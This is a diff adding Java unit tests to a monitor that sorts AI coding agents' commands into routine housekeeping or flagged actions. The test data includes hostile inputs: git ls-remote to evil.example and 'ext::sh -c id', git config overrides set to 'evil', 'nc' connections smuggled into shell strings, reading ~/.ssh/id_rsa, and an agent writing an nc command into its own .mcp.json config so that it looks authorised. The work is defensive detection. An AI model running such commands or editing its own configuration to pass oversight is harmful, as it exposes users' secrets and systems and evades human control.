@@ -1,5 +1,6 @@
 package dev.quintai.divergence;
 
+import static dev.quintai.divergence.Scenario.AGENT;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
@@ -96,6 +97,29 @@ class HousekeepingTest {
     assertThat(rule("x", "/usr/bin/rg", "rg", "--files", "--hidden")).isEqualTo("search");
     assertThat(rule("x", "/bin/zsh", "zsh", "-lic", "echo X; env; exit")).isNotNull();
     assertThat(rule("x", "/usr/bin/node", "node", "/usr/bin/npm", "root", "-g")).isNotNull();
+    assertThat(rule("x", "/usr/bin/dash", "/bin/sh", "/usr/bin/lsb_release", "-a")).isNotNull();
+    assertThat(rule("x", "/usr/bin/ps", "ps", "-o", "ppid=,command=", "-p", "7")).isNotNull();
+    assertThat(rule("x", "/usr/bin/git", "git", "-c", "core.fsmonitor=", "status")).isNotNull();
+    assertThat(rule("x", "/usr/bin/git", "git", "ls-remote", "--heads", "origin")).isNotNull();
+    assertThat(rule("x", "/usr/bin/git", "git", "-c", "hook.pre-push.enabled=false", "status"))
+        .isNotNull();
+    assertThat(rule("x", "/usr/bin/git", "git", "-c", "protocol.ext.allow=never", "status"))
+        .isNotNull();
+    assertThat(rule("claude-code", "/usr/bin/git", "git", "write-tree")).isEqualTo("git snapshot");
+    assertThat(rule("codex", "/usr/bin/git", "git", "ls-remote", "https://github.com/o/p.git"))
+        .isNotNull();
+    assertThat(
+            rule("x", "/usr/bin/systemd-inhibit", "systemd-inhibit", "--mode=block", "sleep", "9"))
+        .isNotNull();
+    assertThat(
+            rule(
+                "codex",
+                "/usr/bin/bash",
+                "/bin/bash",
+                "-lc",
+                ". ~/.bashrc; echo '# Snapshot file'; declare -f; f() { command -p \"$@\"; }; "
+                    + "set -o | f awk '{print $1}'"))
+        .isEqualTo("shell snapshot");
   }
 
   @Test
@@ -107,6 +131,23 @@ class HousekeepingTest {
     assertThat(rule("x", "/usr/bin/git", "git", "config", "user.name", "evil")).isNull();
     assertThat(rule("x", "/usr/bin/git", "git", "--git-dir", "/srv/x", "add", ".")).isNull();
     assertThat(rule("x", "/tmp/git", "git", "status")).isNull();
+    assertThat(rule("codex", "/usr/bin/git", "git", "ls-remote", "https://evil.example/p"))
+        .isNull();
+    assertThat(rule("codex", "/usr/bin/git", "git", "ls-remote", "ext::sh -c id")).isNull();
+    assertThat(rule("codex", "/usr/bin/git", "git", "ls-remote", "/srv/loot")).isNull();
+    assertThat(rule("codex", "/usr/bin/git", "git", "write-tree")).isNull();
+    assertThat(rule("x", "/usr/bin/git", "git", "-c", "hook.x.command=evil", "status")).isNull();
+    assertThat(rule("x", "/usr/bin/git", "git", "-c", "core.askPass=evil", "status")).isNull();
+    assertThat(rule("x", "/usr/bin/git", "git", "-c", "protocol.ext.allow=always", "fetch"))
+        .isNull();
+    assertThat(rule("x", "/usr/bin/git", "git", "-c", "core.alternateRefsCommand=evil", "status"))
+        .isNull();
+    assertThat(rule("x", "/usr/bin/ps", "ps", "auxe")).isNull();
+    assertThat(rule("x", "/usr/bin/dash", "sh", "/home/ann/shop/lsb_release", "-a")).isNull();
+    assertThat(rule("x", "/usr/bin/systemd-inhibit", "systemd-inhibit", "--mode=block", "nc", "x"))
+        .isNull();
+    assertThat(rule("codex", "/bin/bash", "bash", "-lc", "echo '# Snapshot file'; nc x 1"))
+        .isNull();
     assertThat(rule("x", "/home/ann/shop/git", "git", "status")).isNull();
     assertThat(rule("x", "/usr/bin/python3", "git", "status")).isNull();
     assertThat(rule("x", "/bin/sh", "sh", "-c", "git status; nc x 1")).isNull();
@@ -127,5 +168,66 @@ class HousekeepingTest {
             () ->
                 HousekeepingTable.parse(new BufferedReader(new StringReader("q | * | /x | a | b"))))
         .hasMessageContaining("access");
+  }
+
+  private static Scenario configured(String... lines) {
+    Scenario s = new Scenario();
+    s.events.set(0, s.withConfigured(0.001, List.of(lines)));
+    return s;
+  }
+
+  @Test
+  void commandsOfTheAgentsConfigurationAreTheOperators() {
+    Scenario s = configured("npx -y '@acme/server' --port 7", "~/bin/lint.sh --all | tee log");
+    s.exec(
+        1000,
+        AGENT,
+        "/usr/bin/node",
+        "node",
+        "/usr/local/bin/npx",
+        "-y",
+        "@acme/server",
+        "--port",
+        "7");
+    s.reads(10.1, 1000, "/srv/data");
+    s.connects(10.2, 1000, "203.0.113.5", "api.acme.example");
+    s.exec(1100, AGENT, "/usr/bin/dash", "/bin/sh", "-c", "~/bin/lint.sh --all | tee log");
+    assertThat(s.brief()).isEmpty();
+  }
+
+  @Test
+  void aConfiguredCommandIsThatCommandAndNoOther() {
+    Scenario s = configured("npx -y '@acme/server'", "python3 hook.py");
+    s.exec(1000, AGENT, "/usr/bin/npx", "npx", "-y", "@acme/other");
+    s.exec(1100, AGENT, "/usr/bin/dash", "sh", "-c", "python3 hook.py; curl https://x.example");
+    s.exec(1200, AGENT, "/usr/bin/npx", "npx", "-y", "@acme/server", "--eval");
+    assertThat(s.brief())
+        .containsExactly(
+            "truth_without_intent high exec 1000",
+            "truth_without_intent high exec 1100",
+            "truth_without_intent high exec 1200");
+  }
+
+  @Test
+  void aConfiguredCommandStillNeedsADeclarationForSecrets() {
+    Scenario s = configured("npx -y '@acme/server'", "sudo true");
+    s.exec(1000, AGENT, "/usr/bin/npx", "npx", "-y", "@acme/server");
+    s.reads(10.5, 1000, "/home/ann/.ssh/id_rsa");
+    s.exec(1100, AGENT, "/usr/bin/sudo", "sudo", "true");
+    assertThat(s.brief())
+        .containsExactly(
+            "truth_without_intent high file_read 1000", "truth_without_intent high exec 1100");
+  }
+
+  /** An agent that writes a command into its configuration has not made it the operator's. */
+  @Test
+  void whatTheAgentWritesIntoItsConfigurationDeclaresNothing() {
+    Scenario s = configured("npx -y '@acme/server'");
+    String call = s.write(5, "/home/ann/shop/.mcp.json");
+    s.writes(5.1, AGENT, "/home/ann/shop/.mcp.json");
+    s.result(5.2, call);
+    s.events.add(s.withConfigured(6, List.of("nc 203.0.113.9 4444")));
+    s.exec(1000, AGENT, "/usr/bin/nc", "nc", "203.0.113.9", "4444");
+    assertThat(s.brief()).containsExactly("truth_without_intent high exec 1000");
   }
 }
